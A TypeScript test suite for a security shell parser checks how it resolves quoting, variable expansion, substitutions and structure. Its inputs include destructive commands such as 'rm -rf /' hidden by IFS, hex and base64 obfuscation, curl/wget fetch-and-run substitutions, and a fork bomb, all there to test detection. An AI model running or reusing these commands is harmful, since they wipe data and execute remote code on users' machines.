// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell text, where ${…} is shell syntax.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  expandBraces,
  ParseLimitError,
  parseShell,
  type Script,
  type SimpleCommand,
} from "../../../src/shared/security/shell-parse.js";

const HOME = "/home/tester";

function parse(text: string, vars: Record<string, string> = {}): Script {
  const env = { vars: new Map(Object.entries({ HOME, IFS: " \t\n", ...vars })), home: HOME };
  return parseShell(text, env, { commands: 0 }, 0);
}

/** argv of every top-level simple command, in order. */
function argvs(text: string, vars?: Record<string, string>): string[][] {
  return parse(text, vars).pipelines.flatMap((p) =>
    p.stages.filter((s): s is SimpleCommand => s.kind === "simple").map((s) => s.words.map((w) => w.value)),
  );
}

function first(text: string): SimpleCommand {
  const s = parse(text).pipelines[0]?.stages[0];
  assert.ok(s && s.kind === "simple");
  return s;
}

describe("shell parser: quoting and escapes", () => {
  it("removes quotes the way bash does", () => {
    assert.deepEqual(argvs(`r''m -rf "/" 'a b' "c"d`), [["rm", "-rf", "/", "a b", "cd"]]);
    assert.deepEqual(argvs(`r\\m a\\ b`), [["rm", "a b"]]);
  });
  it("decodes ANSI-C $'…' strings", () => {
    assert.deepEqual(argvs(`$'\\x72\\x6d' $'a\\tb' $'it\\'s'`), [["rm", "a\tb", "it's"]]);
  });
  it("joins line continuations", () => {
    assert.deepEqual(argvs("r\\\nm -rf \\\n /"), [["rm", "-rf", "/"]]);
  });
  it("keeps quoted operators as data", () => {
    assert.deepEqual(argvs(`git commit -m "a; rm -rf / && b | c"`), [
      ["git", "commit", "-m", "a; rm -rf / && b | c"],
    ]);
  });
  it("tolerates unclosed quotes and substitutions", () => {
    assert.deepEqual(argvs(`echo "abc`), [["echo", "abc"]]);
    assert.deepEqual(argvs(`echo 'abc`), [["echo", "abc"]]);
    assert.doesNotThrow(() => parse("echo $(echo ${x"));
  });
  it("drops comments", () => {
    assert.deepEqual(argvs("ls # rm -rf /\npwd"), [["ls"], ["pwd"]]);
    assert.deepEqual(argvs("echo a#b"), [["echo", "a#b"]]);
  });
});

describe("shell parser: expansions", () => {
  it("expands ~, $HOME, ${HOME} and ~user", () => {
    assert.deepEqual(argvs(`ls ~ ~/x $HOME "\${HOME}/y" ~tester/z ~root ~bob`), [
      ["ls", HOME, `${HOME}/x`, HOME, `${HOME}/y`, `${HOME}/z`, "/root", "/home/bob"],
    ]);
    assert.deepEqual(argvs(`echo "~"`), [["echo", "~"]]);
  });
  it("splits unquoted ${IFS} and $IFS into words", () => {
    assert.deepEqual(argvs("rm${IFS}-rf${IFS}/"), [["rm", "-rf", "/"]]);
    assert.deepEqual(argvs(`echo "a\${IFS}b"`), [["echo", "a \t\nb"]]);
  });
  it("tracks assignments across a line", () => {
    assert.deepEqual(argvs("X=/; rm -rf $X"), [["X=/"], ["rm", "-rf", "/"]]);
    assert.deepEqual(argvs("export T=~/a; ls $T"), [
      ["export", `T=${HOME}/a`],
      ["ls", `${HOME}/a`],
    ]);
  });
  it("uses the default of ${X:-d} for an unknown variable", () => {
    assert.deepEqual(argvs("rm -rf ${NOPE:-/}"), [["rm", "-rf", "/"]]);
    assert.deepEqual(argvs("echo ${HOME:-/x}"), [["echo", HOME]]);
  });
  it("marks unknown variables as dynamic", () => {
    const w = first('rm -rf "$DIR/"').words[2]!;
    assert.equal(w.value, "/");
    assert.equal(w.dyn, true);
    assert.equal(w.dynStart, true);
    const empty = first("$UNSET_CMD -rf /").words[0]!;
    assert.equal(empty.dyn, true);
  });
  it("drops a resolved empty unquoted expansion", () => {
    assert.deepEqual(argvs("E=; $E rm -rf /"), [["E="], ["rm", "-rf", "/"]]);
  });
  it("replaces static command substitutions by their output", () => {
    assert.deepEqual(argvs("$(echo rm) -rf /"), [["rm", "-rf", "/"]]);
    assert.deepEqual(argvs("`printf rm` -rf /"), [["rm", "-rf", "/"]]);
    assert.deepEqual(argvs("$(echo cm0gLXJmIH4= | base64 -d)"), [["rm", "-rf", "~"]]);
  });
  it("marks substitutions that read the network", () => {
    const w = first('sh -c "$(curl -s http://x)"').words[2]!;
    assert.equal(w.net, true);
    assert.equal(w.dyn, true);
    assert.equal(first("bash <(wget -qO- http://x)").words[1]!.net, true);
  });
  it("expands brace lists, bounded", () => {
    assert.deepEqual(argvs("rm -rf /{etc,usr}"), [["rm", "-rf", "/etc", "/usr"]]);
    const out: string[] = [];
    expandBraces("{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}", out);
    assert.equal(out.length, 64);
    assert.deepEqual(argvs(`echo "{a,b}" {1..3}`), [["echo", "{a,b}", "{1..3}"]]);
  });
});

describe("shell parser: structure", () => {
  it("splits lists and pipelines", () => {
    const s = parse("a && b || c; d | e & f\ng");
    assert.deepEqual(
      s.pipelines.map((p) => p.stages.length),
      [1, 1, 1, 2, 1, 1],
    );
    assert.equal(s.pipelines[3]!.background, true);
  });
  it("collects substitutions inside double quotes but not single quotes", () => {
    assert.equal(first(`echo "$(rm -rf /)"`).subs.length, 1);
    assert.equal(first(`echo '$(rm -rf /)'`).subs.length, 0);
  });
  it("reads heredoc bodies as stdin and expands unquoted ones", () => {
    const cmd = first("cat <<EOF\nhello $HOME\n$(id)\nEOF");
    assert.equal(cmd.redirs[0]!.body, `hello ${HOME}\n\n`);
    assert.equal(cmd.subs.length, 1);
    const quoted = first("cat <<'EOF'\n$(id)\nEOF");
    assert.equal(quoted.redirs[0]!.body, "$(id)\n");
    assert.equal(quoted.subs.length, 0);
  });
  it("treats here-strings as stdin", () => {
    assert.equal(first("sh <<< 'rm -rf /'").redirs[0]!.body, "rm -rf /\n");
  });
  it("parses redirections and drops fd duplications", () => {
    const cmd = first("cmd > out.txt 2>&1 < in.txt >> log &> all");
    assert.deepEqual(
      cmd.redirs.map((r) => [r.op, r.target?.value ?? null]),
      [
        [">", "out.txt"],
        ["dup", null],
        ["<", "in.txt"],
        [">>", "log"],
        ["&>", "all"],
      ],
    );
  });
  it("recognises function definitions", () => {
    const cmd = first(":(){ :|:& };:");
    assert.equal(cmd.func?.name, ":");
    const cmd2 = first("function boom { boom | boom & }");
    assert.equal(cmd2.func?.name, "boom");
  });
  it("drops reserved words at command position and flags loop headers", () => {
    assert.deepEqual(argvs("if true; then rm -rf x; fi"), [["true"], ["rm", "-rf", "x"], []]);
    assert.equal(first("for f in a b").header, true);
  });
  it("throws ParseLimitError beyond the nesting bound", () => {
    const deep = `${"$(".repeat(100)}x${")".repeat(100)}`;
    assert.throws(() => parse(deep), ParseLimitError);
  });
});
